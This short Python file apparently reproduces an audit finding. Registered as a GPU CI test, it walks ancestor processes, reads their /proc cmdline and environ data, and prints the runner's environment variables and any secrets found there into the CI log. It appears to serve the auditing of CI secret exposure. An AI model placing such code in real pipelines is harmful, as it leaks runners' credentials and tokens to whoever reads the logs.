# finding 3: a PR's test looks for the runner's secrets in its environment and in the
# command line of every ancestor process (/proc/<ppid>/cmdline and up), and prints them all.
# Issue 32 (finding 7): and in each ancestor's environment block (/proc/<pid>/environ), which
# a test running as root reads even when the runner is not dumpable.
import json
import os

from ci_policy import register_cuda_ci

register_cuda_ci(est_time=1, suite="gpu", labels=["megatron"])


def environ_of(pid):
    try:
        with open(f"/proc/{pid}/environ", "rb") as fh:
            return fh.read().decode("utf-8", "replace")
    except OSError as exc:
        return f"unreadable: {exc.strerror}"


def ancestors_cmdlines():
    out, pid = [], os.getppid()
    while pid > 1:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as fh:
                out.append(fh.read().decode("utf-8", "replace").split("\0"))
            ENVIRONS.append(environ_of(pid))
            with open(f"/proc/{pid}/stat", "rb") as fh:
                data = fh.read().decode("ascii", "replace")
        except OSError:
            break
        pid = int(data[data.rfind(")") + 2:].split()[1])
    return out


ENVIRONS = []

if __name__ == "__main__":
    cmdlines = ancestors_cmdlines()
    print("PROBE " + json.dumps({"env": dict(os.environ), "cmdlines": cmdlines, "environs": ENVIRONS},
                                sort_keys=True))
